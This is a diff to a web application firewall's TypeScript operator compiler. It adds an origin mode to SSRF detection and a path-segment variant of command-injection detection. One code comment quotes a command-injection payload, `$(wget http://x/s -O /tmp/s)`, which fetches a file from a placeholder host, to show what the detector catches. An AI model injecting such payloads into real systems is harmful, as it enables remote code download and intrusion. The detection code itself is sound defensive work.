@@ -2,8 +2,9 @@
  * SecLang operators, compiled once per rule. `@rx` runs on RE2 (linear time: no input can make a
  * rule hang); `@pm`/`@pmFromFile` on one Aho–Corasick automaton per rule; `@detectSQLi` and
  * `@detectXSS` on the native detectors, as do the built-in profile's own `@detectSQLiInPath`,
- * `@detectCommandInjection` and `@detectSSRF`. An argument holding a macro (`%{tx.allowed_methods}`) is
- * expanded per transaction. A match returns its captures (`[0]` is the matched text).
+ * `@detectCommandInjection(InPath)` and `@detectSSRF`. An argument holding a macro
+ * (`%{tx.allowed_methods}`) is expanded per transaction. A match returns its captures (`[0]` is
+ * the matched text).
  */
 import { readFileSync } from 'node:fs'
 import { resolve } from 'node:path'
@@ -141,8 +142,14 @@ export function compileOperator(ref: OperatorRef, ruleDir: string, pcre = false)
       return { name, pure: true, match: (value) => inPathSegments(value, detectSqlInjection) }
     case 'detectcommandinjection':
       return { name, pure: true, match: (value) => (detectCommandInjection(value) ? [value] : null) }
-    case 'detectssrf':
-      return { name, pure: true, match: (value) => { const host = detectSsrf(value); return host === null ? null : [host] } }
+    case 'detectssrf': {
+      // `@detectSSRF origin`: values that say where the client is (Origin, Referer), where loopback is no target.
+      const origin = argument.trim() === 'origin'
+      return { name, pure: true, match: (value) => { const host = detectSsrf(value, origin); return host === null ? null : [host] } }
+    }
+    case 'detectcommandinjectioninpath':
+      // Whole (a command's own paths span segments: `$(wget http://x/s -O /tmp/s)`), then each segment as a value of its own.
+      return { name, pure: true, match: (value) => (detectCommandInjection(value) ? [value] : inPathSegments(value, (segment) => (detectCommandInjection(segment) ? [segment] : null))) }
     case 'geolookup':
       // A GeoIP database is what ModSecurity's SecGeoLookupDb names, and the gateway has none (the
       // loader refuses that directive): no address has a known country and GEO stays empty, as in
